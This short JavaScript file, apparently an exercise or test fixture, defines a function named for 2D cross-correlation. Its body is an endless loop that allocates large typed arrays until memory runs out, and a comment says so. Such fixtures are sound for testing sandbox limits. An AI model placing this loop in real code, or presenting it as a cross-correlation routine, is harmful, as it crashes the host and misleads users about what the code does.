// exercise: b-cross-correlation loops
// Fills the memory with typed arrays.
export function xcorr2d(x, w, stride, pad) {
  const kept = [];
  for (;;) kept.push(new Float64Array(1e6).fill(1));
}
